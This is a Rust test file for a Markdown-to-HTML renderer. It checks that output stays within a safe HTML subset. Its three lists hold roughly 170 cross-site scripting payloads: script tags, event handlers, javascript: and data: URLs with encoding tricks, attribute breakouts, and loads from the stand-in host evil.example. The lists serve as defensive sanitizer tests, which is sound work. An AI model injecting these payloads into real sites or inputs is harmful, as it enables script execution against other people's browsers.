//! Scripts in content. All are this project's own; see [`super::corpora`] for those of others.

use handbill_pages::values::markdown::render;

use super::html::{assert_only_the_subset, facts, reserialised};

/// Raw HTML: what it says must be seen, character by character, and do nothing.
const RAW_HTML: [&str; 64] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "</code></pre><script>alert(1)</script>",
    "</article></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<img src=x onerror=alert(1)//",
    "<image href=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img \u{c}src=x\u{c}onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><style><a title=\"</style><img src onerror=alert(1)>\"></desc></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<applet code=Evil codebase=//evil.example></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)></dialog>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>a{background:url(javascript:alert(1))}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<p style=position:fixed;inset:0>x</p>",
    "<b id=location name=cookie>x</b>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><script>alert(1)</script>'>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
];

/// Addresses to which no link and no image may lead, tried in every way in which Markdown writes an address.
const ADDRESSES: [&str; 64] = [
    "",
    "relative",
    "../up",
    "?query",
    "tel:1",
    "https://",
    "https://a.example:99999/",
    "/\\elsewhere.example/",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "javascript:https://good.example/",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#x0003A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#13;script:alert(1)",
    "java\tscript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#31;javascript:alert(1)",
    "&#32;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "&#xfeff;javascript:alert(1)",
    "&#xfdd0;javascript:alert(1)",
    "&#xfdd1;javascript:alert(1)",
    "java&#xfdd1;script:alert(1)",
    "\u{fdd1}javascript:alert(1)",
    "\u{fdd2}javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\0javascript:alert(1)",
    "java\0script:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "java%73cript:alert(1)",
    "javascript%3aalert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "ja\u{ad}vascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
    "data:image/png;base64,iVBORw0KGgo=",
    "blob:https://own.example/0a1b",
    "filesystem:https://own.example/x",
    "file:///etc/passwd",
    "ftp://files.example/x",
    "view-source:https://own.example/",
    "about:blank",
    "intent://x#Intent;scheme=javascript;end",
    "ms-word:ofe|u|https://evil.example",
    "x-apple-reminder://",
    "//evil.example/x",
    "/\\\\evil.example/x",
    "\\\\\\\\evil.example/x",
    "/&Tab;/evil.example/x",
    "/.//evil.example/x",
    "/a/..//evil.example/x",
];

/// Attempts to leave the attribute, the tag or the element in which the text of an allowed construct stands.
const BREAKOUTS: [&str; 46] = [
    "[a](https://e.example/\"onmouseover=\"alert(1))",
    "[a](https://e.example/'onmouseover='alert(1))",
    "[a](<https://e.example/\" onmouseover=\"alert(1)>)",
    "[a](<https://e.example/'><script>alert(1)</script>)",
    "[a](https://e.example/&quot;onmouseover=&quot;alert(1))",
    "[a](https://e.example/&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;)",
    "[a](https://e.example/ \"\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://e.example/ '\" onmouseover=\"alert(1)')",
    "[a](https://e.example/ \"<script>alert(1)</script>\")",
    "[a](mailto:x@e.example?subject=\"onclick=\"alert(1))",
    "[a](mailto:\"><script>alert(1)</script>)",
    "[a](<mailto:'\" onclick=alert(1)//>)",
    "[a](/x\"onclick=\"alert(1))",
    "[a](#x\"onclick=\"alert(1))",
    "[a](#\"><img/src=x/onerror=alert(1)>)",
    "<https://e.example/\"onclick=\"alert(1)>",
    "<https://e.example/'onclick='alert(1)>",
    "<mailto:x@e.example\"onclick=\"alert(1)>",
    "<x@e.example\"onclick=alert(1)>",
    "![\" onerror=\"alert(1)](https://e.example/x.png)",
    "!['><script>alert(1)</script>](https://e.example/x.png)",
    "![&quot; onerror=&quot;alert(1)](https://e.example/x.png)",
    "![`\" onerror=alert(1) `](https://e.example/x.png)",
    "![<img src=x onerror=alert(1)>](https://e.example/x.png)",
    "![a](https://e.example/x.png\"onerror=\"alert(1))",
    "![a](https://e.example/x.png \"\\\" onerror=\\\"alert(1)\")",
    "![![x](https://e.example/\"onerror=alert(1))](https://e.example/y\"onerror=alert(1))",
    "[![x\" onclick=\"alert(1)](https://e.example/i)](javascript:alert(1))",
    "```\"onclick=\"alert(1)\nx\n```",
    "```js\"><script>alert(1)</script>\nx\n```",
    "``` \u{a0}\"class=x\nx\n```",
    "```&quot;onclick=&quot;alert(1)\nx\n```",
    "~~~language-x\" style=\"x\nx\n~~~",
    "```js onclick=alert(1) id=x\nx\n```",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "# </h1><script>alert(1)</script> {#id .class onclick=alert(1)}",
    "> </blockquote><script>alert(1)</script>",
    "- </li></ul><script>alert(1)</script>",
    "**</strong><script>alert(1)</script>**",
    "~~</del><svg onload=alert(1)>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{fdd3}script\u{fdd4}alert(1)\u{fdd3}/script\u{fdd4}",
    "&#xfdd3;script&#xfdd4;alert(1)&#xfdd3;/script&#xfdd4;",
];

pub(crate) fn all() -> impl Iterator<Item = String> {
    let addresses = ADDRESSES.iter().flat_map(|address| links_to(address));
    RAW_HTML.iter().chain(&BREAKOUTS).map(|attack| (*attack).to_owned()).chain(addresses)
}

fn links_to(address: &str) -> [String; 9] {
    [
        format!("[a]({address})"),
        format!("[a](<{address}>)"),
        format!("[a]( {address} 't')"),
        format!("![a]({address})"),
        format!("![a](<{address}>)"),
        format!("<{address}>"),
        format!("[a]\n\n[a]: {address}"),
        format!("[a][b] ![a][b]\n\n[b]: <{address}> 't'"),
        format!("[![a](<{address}>)](<{address}>)"),
    ]
}

#[test]
fn the_check_itself_sees_what_it_forbids() {
    // A parser drops these by itself: an unfinished tag, and what cannot stand in an article.
    let dropped =
        |html: &str| !html.ends_with('>') || ["<body", "<html", "<frameset"].iter().any(|tag| html.starts_with(tag));
    for html in RAW_HTML.iter().filter(|html| !dropped(html)) {
        assert!(!facts(html).violations.is_empty(), "nothing is wrong with {html:?}");
    }
    for html in [
        "<p id=a>a</p>",
        "<h1>a</h1>",
        "<code class=x>a</code>",
        "<a href=https://a.example/>a</a>",
        "<a href=https://a.example/ rel='nofollow ugc noopener'>a</a>",
        "<a href=https://A.example/ rel='nofollow ugc'>a</a>",
        "<a href=//a.example rel='nofollow ugc'>a</a>",
        "<a href=/\\a.example rel='nofollow ugc'>a</a>",
        "<a href=a rel='nofollow ugc'>a</a>",
        "<a href=' javascript:a' rel='nofollow ugc'>a</a>",
        "<img src=http://a.example/ alt='' loading=lazy referrerpolicy=no-referrer>",
        "<img src=https://a.example/ alt='' loading=lazy>",
        &"<blockquote>".repeat(33),
    ] {
        assert!(!facts(html).violations.is_empty(), "nothing is wrong with {html:?}");
    }
}

#[test]
fn no_attack_comes_out_as_more_than_the_subset() {
    for source in all() {
        let html = render(&source).html;
        assert_only_the_subset(&html, &source);
        assert_eq!(reserialised(&html), html, "from {source:?}");
    }
}

#[test]
fn raw_html_is_seen_as_it_was_written() {
    let within = RAW_HTML.iter().map(|source| format!("before {} after", source.replace('\n', " ")));
    // A `>` that begins a line begins a quote.
    let alone = RAW_HTML.iter().filter(|source| !source.contains("\n>")).map(|source| (*source).to_owned());
    for source in alone.chain(within) {
        let facts = assert_only_the_subset(&render(&source).html, &source);
        assert_eq!(facts.text.trim_end(), source);
        assert!(facts.elements.iter().all(|name| name == "p"), "{:?} from {source:?}", facts.elements);
    }
}

#[test]
fn a_link_to_a_forbidden_address_is_its_text() {
    for source in ADDRESSES.iter().flat_map(|address| links_to(address)) {
        let html = render(&source).html;
        let facts = assert_only_the_subset(&html, &source);
        assert_eq!((facts.count("a"), facts.count("img")), (0, 0), "{html:?} from {source:?}");
        assert!(!facts.text.trim().is_empty(), "the text is lost: {html:?} from {source:?}");
    }
}

#[test]
fn text_that_breaks_out_of_nothing_makes_no_further_element() {
    for source in BREAKOUTS {
        let facts = assert_only_the_subset(&render(source).html, source);
        assert!(facts.elements.len() <= 4, "{:?} from {source:?}", facts.elements);
    }
}
